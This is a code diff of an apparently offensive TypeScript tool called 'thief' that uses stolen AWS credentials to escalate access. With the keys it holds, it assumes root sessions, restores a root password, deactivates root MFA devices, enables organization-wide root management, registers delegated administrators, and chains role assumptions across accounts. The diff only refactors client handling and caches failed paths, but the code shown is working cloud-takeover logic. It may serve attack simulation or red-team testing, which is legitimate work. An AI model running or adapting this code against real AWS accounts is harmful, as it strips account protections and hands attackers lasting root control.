@@ -2,19 +2,14 @@ import {
   CreateLoginProfileCommand,
   DeactivateMFADeviceCommand,
   EnableOrganizationsRootCredentialsManagementCommand,
-  IAMClient,
   ListMFADevicesCommand,
 } from "@aws-sdk/client-iam";
-import {
-  EnableAWSServiceAccessCommand,
-  OrganizationsClient,
-  RegisterDelegatedAdministratorCommand,
-} from "@aws-sdk/client-organizations";
-import { AssumeRoleCommand, AssumeRootCommand, STSClient } from "@aws-sdk/client-sts";
+import { EnableAWSServiceAccessCommand, RegisterDelegatedAdministratorCommand } from "@aws-sdk/client-organizations";
+import { AssumeRoleCommand, AssumeRootCommand } from "@aws-sdk/client-sts";
 import { type Keys, keysOf, type Move, type Thief } from "./thief.ts";
 
 async function assumeRoot(thief: Thief, move: string, keys: Keys, task: string, who: string): Promise<Keys | null> {
-  const client = new STSClient(thief.clientFor(keys));
+  const client = thief.clientsFor(keys).sts;
   const answer = await thief.call(move, `sts:AssumeRoot ${task} as ${who}`, () =>
     client.send(
       new AssumeRootCommand({
@@ -23,7 +18,6 @@ async function assumeRoot(thief: Thief, move: string, keys: Keys, task: string, 
       }),
     ),
   );
-  client.destroy();
   return keysOf(answer?.Credentials);
 }
 
@@ -35,11 +29,10 @@ const allowRecovery: Move = {
     for (const { arn, keys } of thief.held) {
       const session = await assumeRoot(thief, move, keys, "IAMCreateRootUserPassword", arn);
       if (session === null) continue;
-      const client = new IAMClient(thief.clientFor(session));
+      const client = thief.clientsFor(session).iam;
       const made = await thief.call(move, "iam:CreateLoginProfile as root", () =>
         client.send(new CreateLoginProfileCommand({})),
       );
-      client.destroy();
       if (made !== null) return thief.note(`allowed a root password again as ${arn}`);
     }
     return false;
@@ -54,7 +47,7 @@ const removeMfa: Move = {
     for (const { arn, keys } of thief.held) {
       const session = await assumeRoot(thief, move, keys, "IAMDeleteRootUserCredentials", arn);
       if (session === null) continue;
-      const client = new IAMClient(thief.clientFor(session));
+      const client = thief.clientsFor(session).iam;
       const removed = await thief.call(move, "iam:DeactivateMFADevice as root", async () => {
         const { MFADevices } = await client.send(new ListMFADevicesCommand({}));
         for (const { SerialNumber } of MFADevices ?? []) {
@@ -62,7 +55,6 @@ const removeMfa: Move = {
         }
         return MFADevices?.length ?? 0;
       });
-      client.destroy();
       if (removed !== null && removed > 0) return thief.note(`removed root's MFA as ${arn}`);
     }
     return false;
@@ -76,7 +68,7 @@ const turnOn: Move = {
     if (organization === null) return false;
     let isNew = false;
     for (const { arn, keys } of thief.held) {
-      const org = new OrganizationsClient(thief.clientFor(keys));
+      const org = thief.clientsFor(keys).organizations;
       for (const ServicePrincipal of ["iam.amazonaws.com", "account.amazonaws.com"]) {
         if (organization.trusted.has(ServicePrincipal)) continue;
         const done = await thief.call("turn central root access on", `EnableAWSServiceAccess as ${arn}`, () =>
@@ -84,13 +76,11 @@ const turnOn: Move = {
         );
         isNew ||= done !== null;
       }
-      org.destroy();
       if (organization.rootFeatures.has("RootCredentialsManagement")) continue;
-      const iam = new IAMClient(thief.clientFor(keys));
+      const iam = thief.clientsFor(keys).iam;
       const done = await thief.call("turn central root access on", `EnableOrganizationsRoot… as ${arn}`, () =>
         iam.send(new EnableOrganizationsRootCredentialsManagementCommand({})),
       );
-      iam.destroy();
       isNew ||= done !== null;
     }
     return isNew && thief.note("turned central access on");
@@ -106,7 +96,7 @@ const registerDelegate: Move = {
     let isNew = false;
     const homes = new Set(thief.held.map(({ account }) => account).filter((id) => id !== organization.managementId));
     for (const { arn, keys } of thief.held) {
-      const client = new OrganizationsClient(thief.clientFor(keys));
+      const client = thief.clientsFor(keys).organizations;
       for (const AccountId of homes) {
         for (const ServicePrincipal of ["iam.amazonaws.com", "account.amazonaws.com"]) {
           const known = [...(organization.delegates.get(ServicePrincipal)?.keys() ?? [])].some(
@@ -119,7 +109,6 @@ const registerDelegate: Move = {
           isNew ||= done !== null;
         }
       }
-      client.destroy();
     }
     return isNew && thief.note("registered a delegate");
   },
@@ -139,13 +128,17 @@ const assumeRoles: Move = {
         const arn = `arn:aws:iam::${account.id}:role${role.path}${role.name}`;
         if (thief.held.some((each) => each.arn === arn)) continue;
         for (const by of thief.held.slice()) {
-          const client = new STSClient(thief.clientFor(by.keys));
+          const door = `${by.arn} ${arn}`;
+          if (thief.shut.has(door)) continue;
+          const client = thief.clientsFor(by.keys).sts;
           const answer = await thief.call("assume roles", `sts:AssumeRole ${arn} as ${by.arn}`, () =>
             client.send(new AssumeRoleCommand({ RoleArn: arn, RoleSessionName: "thief" })),
           );
-          client.destroy();
           const keys = keysOf(answer?.Credentials);
-          if (keys === null) continue;
+          if (keys === null) {
+            thief.shut.add(door);
+            continue;
+          }
           thief.held.push({ arn, account: account.id, keys });
           isNew = thief.note(`assumed ${arn}`);
           break;
